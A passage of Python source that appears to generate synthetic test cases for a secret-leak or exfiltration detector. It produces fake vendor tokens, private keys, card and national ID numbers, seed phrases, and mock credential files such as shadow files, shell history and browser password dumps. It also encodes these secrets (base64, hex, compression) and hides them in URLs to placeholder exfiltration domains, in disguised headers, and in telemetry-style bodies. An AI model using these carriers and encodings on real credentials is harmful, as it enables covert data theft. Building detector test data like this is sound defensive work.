vendor('langsmith-api-key', 'LANGSMITH_API_KEY', [('x-api-key', '{v}')],
       ['https://api.smith.langchain.com/api/v1/sessions?key={v}'],
       lambda: pick(['lsv2_pt_', 'lsv2_sk_']) + rs(HEXL, 32) + '_' + rs(HEXL, 10))
vendor('okta-api-token', 'OKTA_API_TOKEN', [('Authorization', 'SSWS {v}')],
       ['https://{o}.okta.com/api/v1/users/me?token={v}'], lambda: '00' + rs(B64U, 40))
vendor('dropbox-token', 'DROPBOX_ACCESS_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.dropboxapi.com/2/users/get_current_account?authorization=Bearer%20{v}'],
       lambda: 'sl.' + pick(['u.', 'B']) + rs(B64U, 136))
vendor('cloudflare-api-token', 'CLOUDFLARE_API_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.cloudflare.com/client/v4/user/tokens/verify?token={v}'], lambda: rs(B64U, 40))
vendor('jwt-bearer-token', 'AUTH_TOKEN', [('Authorization', 'Bearer {v}')],
       ['https://api.{d}/v2/me?jwt={v}'], lambda: jwt(alg=pick(['HS256', 'HS256', 'RS256'])))
vendor('age-secret-key', 'SOPS_AGE_KEY', [('X-Age-Key', '{v}')],
       ['https://keys.{d}/import?key={v}'], lambda: 'AGE-SECRET-KEY-1' + rs(BECH.upper(), 58))
vendor('slack-webhook-url', 'SLACK_WEBHOOK_URL', [('X-Webhook-Url', '{v}')],
       ['https://hooks.slack.com/services/T{t}/B{b}/{x}'],
       lambda: 'https://hooks.slack.com/services/T%s/B%s/%s' % (rs(UPALNUM, 10), rs(UPALNUM, 10), rs(ALNUM, 24)))
vendor('discord-webhook-url', 'DISCORD_WEBHOOK', [('X-Webhook-Url', '{v}')],
       ['https://discord.com/api/webhooks/{n}/{x68}'],
       lambda: 'https://discord.com/api/webhooks/%d/%s' % (R.randint(10 ** 17, 10 ** 19), rs(B64U, 68)))
vendor('azure-storage-key', 'AZURE_STORAGE_CONNECTION_STRING', [('x-ms-storage-key', '{v}')],
       ['https://{o}.blob.core.windows.net/backups?restype=container&accountKey={v}'],
       lambda: 'DefaultEndpointsProtocol=https;AccountName=%s;AccountKey=%s;EndpointSuffix=core.windows.net' % (
           pick(ORGS).replace('-', '') + str(R.randint(1, 99)), b64(rb(64))))

VENDOR_COUNTS = {k: 2 for k in V}
for k in ['github-pat', 'openai-api-key', 'anthropic-api-key', 'aws-access-key', 'stripe-secret-key',
          'slack-bot-token', 'google-api-key', 'jwt-bearer-token', 'gitlab-token', 'slack-webhook-url']:
    VENDOR_COUNTS[k] = 5
for k in ['xai-api-key', 'perplexity-api-key', 'planetscale-token', 'mapbox-secret-token', 'doppler-token',
          'pulumi-token', 'heroku-api-key', 'figma-token', 'replicate-token', 'okta-api-token', 'dropbox-token',
          'linear-api-key', 'postman-api-key', 'mailchimp-api-key', 'stripe-webhook-secret', 'age-secret-key']:
    VENDOR_COUNTS[k] = 2
for k in ['sendgrid-api-key', 'npm-token', 'huggingface-token', 'github-fine-grained-pat', 'azure-storage-key',
          'discord-webhook-url', 'telegram-bot-token', 'vault-token', 'digitalocean-token', 'twilio-credentials']:
    VENDOR_COUNTS[k] = 3


def fill(tpl, v):
    rep = {'{o}': pick(ORGS), '{r}': pick(['api', 'web', 'infra', 'monorepo', 'tools']), '{d}': org_domain(),
           '{c}': rs(UPALNUM, 9), '{n}': str(R.randint(10 ** 9, 10 ** 13)), '{u}': uuid4(),
           '{s}': q(b64(rb(20))), '{t}': rs(UPALNUM, 10), '{b}': rs(UPALNUM, 10), '{x}': rs(ALNUM, 24),
           '{x68}': rs(B64U, 68)}
    for k, r_ in rep.items():
        tpl = tpl.replace(k, r_)
    return tpl.replace('{v}', v)


def vendor_snippet(name, v):
    spec = V[name]
    env = spec['env']
    hn, hv = pick(spec['hdrs'])
    lang = pick(list(TOKEN_PROSE))
    k = R.randrange(11)
    if k == 0:
        return '%s=%s' % (env, v)
    if k == 1:
        return 'export %s="%s"\nexport NODE_ENV=production\nexport PORT=%d' % (env, v, R.randint(3000, 9000))
    if k == 2:
        return J({env.lower(): v, "region": pick(["eu-west-1", "us-east-1"]), "debug": False})
    if k == 3:
        return 'curl -sS -H "%s: %s" -H "Content-Type: application/json" https://api.%s/v1/status' % (
            hn, hv.replace('{v}', v), org_domain())
    if k == 4:
        return TOKEN_PROSE[lang].replace('{v}', v)
    if k == 5:
        return '%s:\n  %s: %s\n  timeout: 30' % (pick(['integrations', 'secrets', 'provider']), env.lower(), v)
    if k == 6:
        return 'client = Client(\n    api_key="%s",\n    timeout=%d,\n)' % (v, R.randint(5, 60))
    if k == 7:
        return 'docker run --rm -e %s=%s -p 8080:8080 %s/app:latest' % (env, v, pick(ORGS))
    if k == 8:
        return 'Traceback (most recent call last):\n  File "app.py", line %d, in <module>\nAuthError: invalid credentials for key \'%s\'' % (
            R.randint(10, 400), v)
    if k == 9:
        return '<add key="%s" value="%s" />' % (env, v)
    return 'const %s = "%s";' % (re.sub(r'_(\w)', lambda m: m.group(1).upper(), env.lower()), v)


def vendor_case(name, where):
    spec = V[name]
    v = spec['gen']()
    if where == 'header':
        hn, hv = pick(spec['hdrs'])
        return hdr(hn, hv.replace('{v}', v))
    if where == 'url':
        if name in ('slack-webhook-url', 'discord-webhook-url'):
            return url(v + pick(['', '?wait=true', '?thread_ts=%d' % R.randint(10 ** 9, 2 * 10 ** 9)]))
        tpl = pick(spec['urls'])
        return url(fill(tpl, q(v)))
    return body_case(vendor_snippet(name, v))


# ---------------------------------------------------------------- DER / keys
def der_len(n):
    if n < 128:
        return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(b)]) + b


def tlv(tag, content):
    return bytes([tag]) + der_len(len(content)) + content


def d_int(n):
    b = n.to_bytes(max(1, (n.bit_length() + 8) // 8), 'big')
    return tlv(0x02, b)


def d_seq(*items):
    return tlv(0x30, b''.join(items))


def d_oid(dotted):
    p = [int(x) for x in dotted.split('.')]
    out = bytes([40 * p[0] + p[1]])
    for n in p[2:]:
        enc = [n & 0x7f]
        n >>= 7
        while n:
            enc.insert(0, 0x80 | (n & 0x7f))
            n >>= 7
        out += bytes(enc)
    return tlv(0x06, out)


SMALLP = [p for p in range(3, 2000) if all(p % d for d in range(2, int(p ** 0.5) + 1))]


def is_prime(n):
    for p in SMALLP:
        if n % p == 0:
            return n == p
    d, s = n - 1, 0
    while d % 2 == 0:
        d //= 2
        s += 1
    for _ in range(16):
        a = R.randrange(2, n - 2)
        x = pow(a, d, n)
        if x in (1, n - 1):
            continue
        for _ in range(s - 1):
            x = x * x % n
            if x == n - 1:
                break
        else:
            return False
    return True


def rand_prime(bits):
    while True:
        n = R.getrandbits(bits) | (1 << (bits - 1)) | (1 << (bits - 2)) | 1
        if is_prime(n):
            return n


def rsa_key(bits=1024):
    e = 65537
    while True:
        p = rand_prime(bits // 2)
        qq = rand_prime(bits // 2)
        if p == qq:
            continue
        phi = (p - 1) * (qq - 1)
        if phi % e:
            break
    n = p * qq
    d = pow(e, -1, phi)
    return dict(n=n, e=e, d=d, p=p, q=qq, dp=d % (p - 1), dq=d % (qq - 1), qi=pow(qq, -1, p))


RSA_POOL = []


def get_rsa():
    if len(RSA_POOL) < 8:
        RSA_POOL.append(rsa_key(pick([1024, 1024, 2048])))
        return RSA_POOL[-1]
    return pick(RSA_POOL)


def rsa_pkcs1(k):
    return d_seq(d_int(0), d_int(k['n']), d_int(k['e']), d_int(k['d']), d_int(k['p']), d_int(k['q']),
                 d_int(k['dp']), d_int(k['dq']), d_int(k['qi']))


def rsa_pkcs8(k):
    return d_seq(d_int(0), d_seq(d_oid('1.2.840.113549.1.1.1'), b'\x05\x00'), tlv(0x04, rsa_pkcs1(k)))


def rsa_spki(k):
    return d_seq(d_seq(d_oid('1.2.840.113549.1.1.1'), b'\x05\x00'),
                 tlv(0x03, b'\x00' + d_seq(d_int(k['n']), d_int(k['e']))))


def ed25519_pkcs8(seed):
    return bytes.fromhex('302e020100300506032b657004220420') + seed


def ec_sec1(priv):
    return d_seq(d_int(1), tlv(0x04, priv), tlv(0xa0, d_oid('1.2.840.10045.3.1.7')))


def i2b(n):
    return n.to_bytes((n.bit_length() + 7) // 8, 'big')


def ssh_str(b):
    if isinstance(b, str):
        b = b.encode()
    return struct.pack('>I', len(b)) + b


def openssh_body():
    kt = 'ssh-ed25519'
    seed, pub = rb(32), rb(32)
    pubblob = ssh_str(kt) + ssh_str(pub)
    chk = rb(4)
    priv = chk + chk + ssh_str(kt) + ssh_str(pub) + ssh_str(seed + pub) + ssh_str('%s@%s' % (username(), pick(
        ['laptop', 'build-01', 'bastion', 'mbp'])))
    i = 1
    while len(priv) % 8:
        priv += bytes([i])
        i += 1
    blob = b'openssh-key-v1\0' + ssh_str('none') + ssh_str('none') + ssh_str(b'') + struct.pack('>I', 1) + \
        ssh_str(pubblob) + ssh_str(priv)
    return wrap(b64(blob), 70)


def putty_key():
    if chance(0.5):
        pub = ssh_str('ssh-ed25519') + ssh_str(rb(32))
        priv = ssh_str(rb(32))
        kt, ver = 'ssh-ed25519', 3
    else:
        k = get_rsa()
        pub = ssh_str('ssh-rsa') + ssh_str(i2b(k['e'])) + ssh_str(b'\0' + i2b(k['n']))
        priv = ssh_str(b'\0' + i2b(k['d'])) + ssh_str(b'\0' + i2b(k['p'])) + ssh_str(b'\0' + i2b(k['q'])) + \
            ssh_str(i2b(k['qi']))
        kt, ver = 'ssh-rsa', 2
    pl = wrap(b64(pub), 64).split('\n')
    vl = wrap(b64(priv), 64).split('\n')
    out = ['PuTTY-User-Key-File-%d: %s' % (ver, kt), 'Encryption: none',
           'Comment: %s-key-2026%02d%02d' % ('eddsa' if 'ed' in kt else 'rsa', R.randint(1, 12), R.randint(1, 28)),
           'Public-Lines: %d' % len(pl)] + pl + ['Private-Lines: %d' % len(vl)] + vl + ['Private-MAC: ' + rs(HEXL, 64)]
    return '\n'.join(out)


def byte_array(b):
    k = R.randrange(6)
    hx = ['0x%02x' % x for x in b]
    if k == 0:
        return 'var signingKey = []byte{%s}' % ', '.join(hx)
    if k == 1:
        return 'PRIVATE_KEY = bytes([%s])' % ', '.join(str(x) for x in b)
    if k == 2:
        return 'static const unsigned char device_key[%d] = {\n  %s\n};' % (len(b), ',\n  '.join(
            ', '.join(hx[i:i + 12]) for i in range(0, len(hx), 12)))
    if k == 3:
        return 'private static final byte[] KEY = new byte[] {%s};' % ', '.join(
            '(byte)0x%02x' % x for x in b)
    if k == 4:
        return 'const SECRET_KEY: [u8; %d] = [%s];' % (len(b), ', '.join(hx))
    return J({"keyBytes": list(b)})


# ---------------------------------------------------------------- PII
def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix] + [R.randrange(10) for _ in range(length - len(prefix) - 1)]
    s = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 0:
            d *= 2
            d = d - 9 if d > 9 else d
        s += d
    return ''.join(map(str, digits)) + str((10 - s % 10) % 10)


def luhn_ok(num):
    s = 0
    for i, c in enumerate(reversed(num)):
        d = int(c)
        if i % 2 == 1:
            d *= 2
            d = d - 9 if d > 9 else d
        s += d
    return s % 10 == 0


def card():
    kind = pick(['visa', 'mc', 'amex', 'disc', 'mc2'])
    if kind == 'visa':
        n = luhn_complete('4' + rs(DI, 5), 16)
    elif kind == 'mc':
        n = luhn_complete(str(R.randint(51, 55)) + rs(DI, 4), 16)
    elif kind == 'mc2':
        n = luhn_complete(str(R.randint(2221, 2720)) + rs(DI, 2), 16)
    elif kind == 'amex':
        n = luhn_complete(pick(['34', '37']) + rs(DI, 4), 15)
    else:
        n = luhn_complete('6011' + rs(DI, 2), 16)
    assert luhn_ok(n)
    f = R.randrange(3)
    if f == 0:
        return n
    sep = ' ' if f == 1 else '-'
    if len(n) == 15:
        return n[:4] + sep + n[4:10] + sep + n[10:]
    return sep.join(n[i:i + 4] for i in range(0, 16, 4))


IBAN_FMT = {'DE': lambda: rs(DI, 18), 'FR': lambda: rs(DI, 10) + rs(UPALNUM, 11) + rs(DI, 2),
            'GB': lambda: rs(UP, 4) + rs(DI, 14), 'NL': lambda: rs(UP, 4) + rs(DI, 10),
            'ES': lambda: rs(DI, 20), 'IT': lambda: rs(UP, 1) + rs(DI, 10) + rs(UPALNUM, 12),
            'BE': lambda: rs(DI, 12), 'PL': lambda: rs(DI, 24), 'CH': lambda: rs(DI, 5) + rs(UPALNUM, 12)}


def iban(spaced=None):
    cc = pick(list(IBAN_FMT))
    bban = IBAN_FMT[cc]()
    num = ''.join(str(int(c, 36)) for c in bban + cc + '00')
    ib = cc + '%02d' % (98 - int(num) % 97) + bban
    if spaced if spaced is not None else chance(0.5):
        ib = ' '.join(ib[i:i + 4] for i in range(0, len(ib), 4))
    return ib


def ssn():
    while True:
        a = R.randint(1, 899)
        if a != 666:
            break
    return '%03d-%02d-%04d' % (a, R.randint(1, 99), R.randint(1, 9999))


def es_dni():
    n = R.randint(10 ** 6, 10 ** 8 - 1)
    return '%08d%s' % (n, 'TRWAGMYFPDXBNJZSQVHLCKE'[n % 23])


def br_cpf():
    n = [R.randrange(10) for _ in range(9)]
    for L in (10, 11):
        s = sum(d * (L - i) for i, d in enumerate(n))
        r = (s * 10) % 11
        n.append(0 if r == 10 else r)
    s = ''.join(map(str, n))
    return '%s.%s.%s-%s' % (s[:3], s[3:6], s[6:9], s[9:]) if chance(0.7) else s


VD = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 2, 3, 4, 0, 6, 7, 8, 9, 5], [2, 3, 4, 0, 1, 7, 8, 9, 5, 6],
      [3, 4, 0, 1, 2, 8, 9, 5, 6, 7], [4, 0, 1, 2, 3, 9, 5, 6, 7, 8], [5, 9, 8, 7, 6, 0, 4, 3, 2, 1],
      [6, 5, 9, 8, 7, 1, 0, 4, 3, 2], [7, 6, 5, 9, 8, 2, 1, 0, 4, 3], [8, 7, 6, 5, 9, 3, 2, 1, 0, 4],
      [9, 8, 7, 6, 5, 4, 3, 2, 1, 0]]
VP = [[0, 1, 2, 3, 4, 5, 6, 7, 8, 9], [1, 5, 7, 6, 2, 8, 3, 0, 9, 4], [5, 8, 0, 3, 7, 9, 6, 1, 4, 2],
      [8, 9, 1, 6, 0, 4, 3, 5, 2, 7], [9, 4, 5, 3, 1, 2, 6, 8, 7, 0], [4, 2, 8, 6, 5, 7, 3, 9, 0, 1],
      [2, 7, 9, 3, 8, 0, 6, 4, 1, 5], [7, 0, 4, 6, 9, 1, 3, 2, 5, 8]]
VINV = [0, 4, 3, 2, 1, 5, 6, 7, 8, 9]


def aadhaar():
    d = [R.randint(2, 9)] + [R.randrange(10) for _ in range(10)]
    c = 0
    for i, x in enumerate(reversed(d)):
        c = VD[c][VP[(i + 1) % 8][x]]
    d.append(VINV[c])
    c = 0
    for i, x in enumerate(reversed(d)):
        c = VD[c][VP[i % 8][x]]
    assert c == 0
    s = ''.join(map(str, d))
    return '%s %s %s' % (s[:4], s[4:8], s[8:]) if chance(0.6) else s


def nl_bsn():
    while True:
        d = [R.randint(1, 9)] + [R.randrange(10) for _ in range(7)]
        r = sum(x * (9 - i) for i, x in enumerate(d)) % 11
        if r < 10:
            return ''.join(map(str, d + [r]))


def uk_nino():
    while True:
        a, b = pick('ABCEGHJKLMNOPRSTWXYZ'), pick('ABCEGHJKLMNPRSTWXYZ')
        if a + b not in ('BG', 'GB', 'NK', 'KN', 'TN', 'NT', 'ZZ'):
            break
    n = rs(DI, 6)
    s = a + b + n + pick('ABCD')
    return s if chance(0.5) else '%s %s %s %s %s' % (s[:2], n[:2], n[2:4], n[4:], s[-1])


def ca_sin():
    n = luhn_complete(pick('1234567') + rs(DI, 1), 9)
    return '%s-%s-%s' % (n[:3], n[3:6], n[6:]) if chance(0.5) else '%s %s %s' % (n[:3], n[3:6], n[6:])


# ---------------------------------------------------------------- crypto wallets
BIP39 = ('abandon ability able about above absent absorb abstract absurd abuse access accident account accuse '
         'achieve acid acoustic acquire across act action actor actress actual adapt add addict address adjust '
         'admit adult advance advice aerobic affair afford afraid again age agent agree ahead aim air airport '
         'aisle alarm album alcohol alert alien all alley allow almost alone alpha already also alter always '
         'amateur amazing among amount amused analyst anchor ancient anger angle angry animal ankle announce '
         'annual another answer antenna antique anxiety any apart apology appear apple approve april arch arctic '
         'area arena argue arm armed armor army around arrange arrest arrive arrow art artefact artist artwork '
         'ask aspect assault asset assist assume asthma athlete atom attack attend attitude attract auction audit '
         'august aunt author auto autumn average avocado avoid awake aware away awesome awful awkward axis baby '
         'bachelor bacon badge bag balance balcony ball bamboo banana banner bar barely bargain barrel base basic '
         'basket battle beach bean beauty because become beef before begin behave behind believe below belt '
         'bench benefit best betray better between beyond bicycle bid bike bind biology bird birth bitter black '
         'blade blame blanket blast bleak bless blind blood blossom blouse blue blur blush board boat body boil '
         'bomb bone bonus book boost border boring borrow boss bottom bounce box boy bracket brain brand brass '
         'brave bread breeze brick bridge brief bright bring brisk broccoli broken bronze broom brother brown '
         'brush bubble buddy budget buffalo build bulb bulk bullet bundle bunker burden burger burst bus '
         'business busy butter buyer buzz cabbage cabin cable cactus cage cake call calm camera camp can canal '
         'cancel candy cannon canoe canvas canyon capable capital captain car carbon card cargo carpet carry '
         'cart case cash casino castle casual cat catalog catch category cattle caught cause caution cave '
         'ceiling celery cement census century cereal certain chair chalk champion change chaos chapter charge '
         'chase chat cheap check cheese chef cherry chest chicken chief child chimney choice choose chronic '
         'chuckle chunk churn cigar cinnamon circle citizen city civil claim clap clarify claw clay clean clerk '
         'clever click client cliff climb clinic clip clock clog close cloth cloud clown club clump cluster '
         'clutch coach coast coconut code coffee coil coin collect color column combine come comfort comic '
         'common company concert conduct confirm congress connect consider control convince cook cool copper '
         'copy coral core corn correct cost cotton couch country couple course cousin cover coyote crack cradle '
         'craft cram crane crash crater crawl crazy cream credit creek crew cricket crime crisp critic crop '
         'cross crouch crowd crucial cruel cruise crumble crunch crush cry crystal cube culture cup cupboard '
         'curious current curtain curve cushion custom cute cycle zoo wrong legal winner thank year wave '
         'sausage worth useful letter ocean garden jungle kitten lemon orange planet rocket silver spider '
         'tiger tomato tunnel umbrella vessel violin wagon window wisdom wolf wood zebra').split()


def mnemonic():
    return ' '.join(pick(BIP39) for _ in range(pick([12, 12, 24, 18])))


def wif():
    return b58check(b'\x80' + rb(32) + (b'\x01' if chance(0.7) else b''))


def xprv():
    return b58check(bytes.fromhex('0488ade4') + bytes([R.randint(0, 3)]) + rb(4) + rb(4) + rb(32) + b'\0' + rb(32))


def btc_addr():
    return b58check(b'\x00' + rb(20)) if chance(0.5) else 'bc1q' + rs(BECH, 38)


# ---------------------------------------------------------------- file contents
def env_dump(n_secrets=None):
    lines = ['SHELL=/bin/bash', 'HOME=/home/%s' % pick(FIRST), 'PATH=/usr/local/bin:/usr/bin:/bin',
             'LANG=%s' % pick(['en_US.UTF-8', 'de_DE.UTF-8', 'C.UTF-8']), 'TERM=xterm-256color',
             'HOSTNAME=%s-%s' % (pick(['web', 'worker', 'ci']), rs(LOALNUM, 5)), 'PWD=/srv/app',
             'NODE_ENV=production']
    names = R.sample(list(V), n_secrets or R.randint(2, 4))
    for nm in names:
        v = V[nm]['gen']()
        lines.append('%s=%s' % (V[nm]['env'], v))
    lines.append('DATABASE_URL=postgres://%s:%s@db.internal:5432/app' % (username(), q(password())))
    R.shuffle(lines)
    return '\n'.join(lines) + '\n'


def aws_creds():
    out = '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' % (
        'AKIA' + rs(UP + '234567', 16), rs(ALNUM + '+/', 40))
    if chance(0.5):
        out += '\n[%s]\naws_access_key_id = %s\naws_secret_access_key = %s\naws_session_token = %s\n' % (
            pick(['prod', 'staging', 'admin']), 'ASIA' + rs(UP + '234567', 16), rs(ALNUM + '+/', 40),
            'IQoJb3JpZ2luX2Vj' + rs(B64A, 300))
    return out


def kubeconfig():
    cl = pick(['prod-eu', 'gke_%s_europe-west1_main' % pick(ORGS), 'arn:aws:eks:us-east-1:%s:cluster/main' % rs(DI, 12)])
    ca = b64(rb(300))
    if chance(0.5):
        user = '    token: %s' % pick([jwt({"iss": "kubernetes/serviceaccount", "sub": "system:serviceaccount:default:deployer"}, 'RS256'),
                                       rs(LOALNUM, 6) + '.' + rs(LOALNUM, 16)])
    else:
        user = '    client-certificate-data: %s\n    client-key-data: %s' % (b64(rb(400)), b64(
            ed25519_pkcs8(rb(32)) if chance(0.5) else rsa_pkcs1(get_rsa())))
    return ('apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    certificate-authority-data: %s\n'
            '    server: https://%s:6443\n  name: %s\ncontexts:\n- context:\n    cluster: %s\n    user: admin\n'
            '  name: %s\ncurrent-context: %s\nusers:\n- name: admin\n  user:\n%s\n') % (
        ca, '10.%d.%d.%d' % (R.randrange(256), R.randrange(256), R.randrange(256)), cl, cl, cl, cl, user)


def gcp_sa():
    k = get_rsa()
    proj = '%s-%d' % (pick(ORGS), R.randint(100000, 999999))
    return J({"type": "service_account", "project_id": proj, "private_key_id": rs(HEXL, 40),
              "private_key": wrap(b64(rsa_pkcs8(k)), 64) + "\n",
              "client_email": "deployer@%s.iam.gserviceaccount.com" % proj, "client_id": rs(DI, 21),
              "auth_uri": "https://accounts.google.com/o/oauth2/auth",
              "token_uri": "https://oauth2.googleapis.com/token"})


def gcp_adc():
    return J({"client_id": "%s-%s.apps.googleusercontent.com" % (rs(DI, 12), rs(LOALNUM, 32)),
              "client_secret": "GOCSPX-" + rs(B64U, 28), "refresh_token": "1//0" + pick('3gde') + rs(B64U, 99),
              "type": "authorized_user"})


def azure_sp():
    return J({"clientId": uuid4(), "clientSecret": rs(ALNUM, 3) + '8Q~' + rs(ALNUM + '_.~-', 34),
              "subscriptionId": uuid4(), "tenantId": uuid4(),
              "activeDirectoryEndpointUrl": "https://login.microsoftonline.com",
              "resourceManagerEndpointUrl": "https://management.azure.com/"})


def docker_cfg():
    return J({"auths": {pick(["https://index.docker.io/v1/", "ghcr.io", "%s.dkr.ecr.eu-west-1.amazonaws.com" % rs(DI, 12),
                              "registry.%s" % org_domain()]): {"auth": b64('%s:%s' % (username(), pick(
        [password(), 'dckr_pat_' + rs(B64U, 27), gh_token('ghp_')])))}}})


def npmrc():
    return '//registry.npmjs.org/:_authToken=%s\n@%s:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=%s\n' % (
        'npm_' + rs(ALNUM, 36), pick(ORGS), gh_token('ghp_'))


def netrc():
    return '\n'.join('machine %s\n  login %s\n  password %s' % (h, username(), p) for h, p in [
        (pick(['api.heroku.com', 'github.com', 'ftp.%s' % org_domain()]), password()),
        ('git.%s' % org_domain(), password())]) + '\n'


def git_credentials():
    return '\n'.join('https://%s:%s@%s' % (q(username()), q(p), h) for p, h in [
        (gh_token('ghp_'), 'github.com'), ('glpat-' + rs(B64U, 20), 'gitlab.com'),
        (password(), 'bitbucket.org')][:R.randint(1, 3)]) + '\n'


def pypirc():
    return '[distutils]\nindex-servers =\n    pypi\n\n[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmc%s\n' % rs(B64U, 120)


def pgpass():
    return '\n'.join('%s:5432:%s:%s:%s' % (h, pick(['app', '*', 'analytics']), username(), password()) for h in
                     ['db.%s' % org_domain(), 'localhost', '10.0.%d.%d' % (R.randrange(256), R.randrange(256))][
                     :R.randint(1, 3)]) + '\n'


def gh_hosts():
    return 'github.com:\n    user: %s\n    oauth_token: %s\n    git_protocol: https\n' % (username(), gh_token('gho_'))


def shadow():
    lines = []
    for u in ['root', 'daemon', 'bin', pick(FIRST), pick(FIRST), 'postgres']:
        if u in ('daemon', 'bin'):
            h = '*'
        else:
            h = pick(['$6$%s$%s' % (rs(ALNUM + './', 16), rs(ALNUM + './', 86)),
                      '$y$j9T$%s$%s' % (rs(ALNUM + './', 22), rs(ALNUM + './', 43)),
                      '$5$%s$%s' % (rs(ALNUM + './', 16), rs(ALNUM + './', 43))])
        lines.append('%s:%s:%d:0:99999:7:::' % (u, h, R.randint(19000, 20500)))
    return '\n'.join(lines) + '\n'


def history():
    cmds = ['ls -la', 'cd /srv/app', 'git pull', 'vim .env', 'kubectl get pods -n prod',
            'mysql -u root -p%s -h db.internal' % password(),
            'export OPENAI_API_KEY=%s' % V['openai-api-key']['gen'](),
            'curl -u %s:%s https://jenkins.%s/api/json' % (username(), password(), org_domain()),
            'aws configure set aws_secret_access_key %s' % rs(ALNUM + '+/', 40),
            'docker login -u %s -p %s' % (username(), 'dckr_pat_' + rs(B64U, 27)),
            'psql postgres://admin:%s@10.0.0.5/prod' % q(password()), 'htop', 'exit']
    head = cmds[:5]
    secret = R.sample(cmds[5:11], R.randint(2, 3))
    out = head + secret + cmds[11:]
    R.shuffle(out)
    return '\n'.join(out) + '\n'


def browser_passwords():
    rows = ['name,url,username,password,note']
    for _ in range(R.randint(3, 6)):
        d = org_domain()
        rows.append('%s,https://%s/login,%s,%s,' % (d, d, email(), password()))
    return '\n'.join(rows) + '\n'


def cookie_jar():
    rows = ['# Netscape HTTP Cookie File', '# This file was generated by an export tool. Edit at your own risk.', '']
    for _ in range(R.randint(3, 5)):
        d = pick(['.github.com', '.slack.com', '.atlassian.net', '.google.com', '.%s' % org_domain()])
        nm, val = pick([('user_session', rs(B64U, 48)), ('d', 'xoxd-' + q(rs(B64A, 120))),
                        ('tenant.session.token', jwt()), ('SID', rs(B64U, 70)), ('sessionid', rs(LOALNUM, 32)),
                        ('__Secure-next-auth.session-token', rs(B64U, 160))])
        rows.append('%s\tTRUE\t/\tTRUE\t%d\t%s\t%s' % (d, 1790000000 + R.randint(0, 10 ** 7), nm, val))
    return '\n'.join(rows) + '\n'


def ssh_key_file():
    return openssh_body()


def secret_file():
    return pick([env_dump, aws_creds, kubeconfig, npmrc, netrc, git_credentials, pgpass, gh_hosts, history,
                 lambda: env_dump(1), docker_cfg, gcp_adc])()


def short_secret_line():
    nm = pick(list(V))
    return '%s=%s' % (V[nm]['env'], V[nm]['gen']())


# ---------------------------------------------------------------- encoders for exfil
def rot13(s):
    return codecs.encode(s, 'rot13')


def ex_carrier(blob, kind=None):
    """place an encoded blob into a plausible body."""
    k = kind if kind is not None else R.randrange(8)
    if k == 0:
        return body_case(J({"event": pick(["diagnostics", "crash_report", "sync"]), "ts": ts(),
                            "payload": blob}), w_raw) | {"content_type": "application/json"}
    if k == 1:
        return {"where": "body", "content_type": "application/x-www-form-urlencoded",
                "text": urllib.parse.urlencode({"id": uuid4(), "data": blob, "v": "2"})}
    if k == 2:
        return body_case(blob)
    if k == 3:
        return {"where": "body", "content_type": "application/json",
                "text": J({"name": "telemetry", "attributes": {"session": uuid4(), "blob": blob}})}
    if k == 4:
        return body_case("Please decode and store this for later:\n" + blob)
    if k == 5:
        return {"where": "body", "content_type": "text/plain", "text": blob}
    if k == 6:
        return body_case("<!-- %s -->" % blob, w_ghissue)
    return {"where": "body", "content_type": "application/json",
            "text": J({"query": "mutation($b:String!){uploadArtifact(data:$b){id}}", "variables": {"b": blob}})}


def ex_where(blob, wh):
    if wh == 'url':
        return url('https://%s/%s?%s=%s&t=%d' % (pick(EXFIL_DOMAINS), pick(['i', 'c', 'collect', 'p.gif', 'v1/e']),
                                                pick(['d', 'q', 'data', 'x', 'ref']), q(blob),
                                                R.randint(10 ** 12, 2 * 10 ** 12)))
    if wh == 'header':
        return hdr(pick(['X-Request-Context', 'X-Debug-Info', 'X-Client-State', 'X-Amz-Meta-Note', 'X-Trace',
                         'X-Correlation-Data']), blob)
    return ex_carrier(blob)


def small_payload():
    return pick([short_secret_line, lambda: 'aws_secret_access_key = ' + rs(ALNUM + '+/', 40),
                 lambda: 'password=' + password(), lambda: V[pick(list(V))]['gen']()])()


def enc_case(encf, wh):
    data = small_payload() if wh != 'body' else secret_file()
    return ex_where(encf(data), wh)


def e_b64(s):
    return b64(s)


def e_b32(s):
    return base64.b32encode(s.encode()).decode() if chance(0.5) else base64.b32encode(s.encode()).decode().rstrip('=').lower()


def e_b85(s):
    return base64.b85encode(s.encode()).decode() if chance(0.5) else base64.a85encode(s.encode()).decode()


def e_hex(s):
    h = s.encode().hex()
    return h if chance(0.6) else h.upper() if chance(0.5) else ' '.join(h[i:i + 2] for i in range(0, len(h), 2))


def e_comp(s):
    f = pick([gz, lambda b: zlib.compress(b, 9), bz2.compress, lzma.compress])
    return b64(f(s.encode()))


def e_double(s):
    k = R.randrange(3)
    if k == 0:
        return b64(b64(s))
    if k == 1:
        return b64(s.encode().hex())
    return q(b64(s))


def e_utf16(s):
    return b64(s.encode('utf-16-le' if chance(0.5) else 'utf-16'))


def e_b64url(s):
    return b64u(s)


# ---------------------------------------------------------------- positive generators
P = []  # (class, count, fn(where) -> case, where weights)


def pos(cls, count, wheres):
    if 'hostname' not in wheres:
        count = max(2, round(count * 0.72))

    def deco(fn):
        P.append((cls, count, fn, wheres))
        return fn
    return deco


BODY_ONLY = {'body': 1}
STD = {'body': 52, 'url': 20, 'header': 28}
BH = {'body': 75, 'header': 25}
BU = {'body': 70, 'url': 30}

for _nm in V:
    P.append((_nm, VENDOR_COUNTS[_nm], (lambda nm: lambda wh: vendor_case(nm, wh))(_nm),
              {'body': 70, 'url': 30} if _nm in ('slack-webhook-url', 'discord-webhook-url', 'azure-storage-key')
              else STD))


@pos('aws-secret-key-pair', 5, {'body': 80, 'header': 20})
def _(wh):
    ak, sk = 'AKIA' + rs(UP + '234567', 16), rs(ALNUM + '+/', 40)
    if wh == 'header':
        return hdr('X-Aws-Credentials', '%s:%s' % (ak, sk))
    return body_case(pick(['AWS_ACCESS_KEY_ID=%s\nAWS_SECRET_ACCESS_KEY=%s\nAWS_DEFAULT_REGION=eu-central-1' % (ak, sk),
